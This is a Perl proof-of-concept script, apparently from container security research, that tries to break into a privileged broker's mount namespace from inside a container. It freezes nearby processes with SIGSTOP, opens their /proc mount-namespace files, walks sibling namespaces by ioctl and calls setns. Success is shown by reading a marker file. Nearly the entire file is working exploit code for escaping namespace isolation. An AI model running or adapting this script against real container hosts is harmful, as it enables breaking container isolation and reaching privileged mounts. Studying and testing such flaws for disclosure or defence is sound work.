# Root of a container searches for the mount namespace that the broker's child creates in the container's
# user namespace, and enters it. With UID 0 root creates the user namespace:
# mounts.pl SOCKET UID REQUEST SECONDS FOLDER
#
# A mount covers FOLDER in the container: reading its file `marker` proves access to the broker's mounts.
use strict;
use warnings;
use Attack;
use Fcntl;

use constant { NEXT => 0x8010b70b, PREVIOUS => 0x8010b70c };
my ($socket, $uid, $request, $seconds, $folder) = @ARGV;
if ($uid) {
  become($uid + 0);
  own_namespace($uid, NEWNS | NEWNET);
} else {
  mapped_namespace(3_000_000 + $$ % 1000 * 65536, 65536, NEWNS | NEWNET);
}
my $tmpfs = 'tmpfs';
my $result = sys('mount', $tmpfs, $folder, $tmpfs, 0, 0);
die 'mount: ' . errno_name($result) . "\n" if $result < 0;
die "the folder is not covered\n" if -e "$folder/marker";
my $end = now() + $seconds;
my $client = fork // die;
if ($client == 0) {
  while (now() < $end) {
    my ($answer, $token) = ask($socket, $request, 1);
    sys('close', $token) if $token >= 0;
  }
  exit 0;
}

sysopen my $own, '/proc/self/ns/mnt', O_RDONLY or die;
my $self = (stat $own)[1];
my ($entered, $read, $found, $rounds, $stopped) = (0, 0, 0, 0, 0);
say_value('first', errno_name(look()));
while (now() < $end && !$read) {
  my $last = last_pid();
  # While stopped, the child stays in its mount namespace.
  for my $pid ($last - 2 .. $last + 4) {
    next if $pid == $client || $pid == $$ || $pid < 2;
    next unless kill 'STOP', $pid;
    $stopped++;
    look();
    if (sysopen my $file, "/proc/$pid/ns/mnt", O_RDONLY) {
      # Before it moves, the child is in the broker's mount namespace, which only root there may enter.
      if ((stat $file)[1] != $self) { $found++; enter(fileno $file) }
    }
    kill 'CONT', $pid;
  }
  look();
  $rounds++;
}
kill 'TERM', $client;
waitpid $client, 0;
say_value('rounds', $rounds);
say_value('stopped', $stopped);
say_value('found', $found);
say_value('entered', $entered);
say_value('read', $read);

# Visits the other mount namespaces of this user namespace, in both directions.
sub look {
  my $answer = 0;
  for my $direction (NEXT, PREVIOUS) {
    my $from = fileno $own;
    my @opened;
    for (1 .. 8) {
      my $info = pack 'LLQ', 16, 0, 0;
      my $fd = sys('ioctl', $from, $direction, $info);
      $answer = $fd;
      last if $fd < 0;
      push @opened, $fd;
      $from = $fd;
      $found++;
      enter($fd);
    }
    sys('close', $_) for @opened;
  }
  return $answer;
}

sub enter {
  my ($fd) = @_;
  my $child = fork // die;
  if ($child == 0) {
    my $status = 0;
    if (sys('setns', $fd, NEWNS) >= 0) {
      $status = 1;
      $status = 2 if defined read_file("$folder/marker");
    }
    POSIX::_exit($status);
  }
  waitpid $child, 0;
  $entered++ if $? >> 8 >= 1;
  $read++ if $? >> 8 == 2;
}
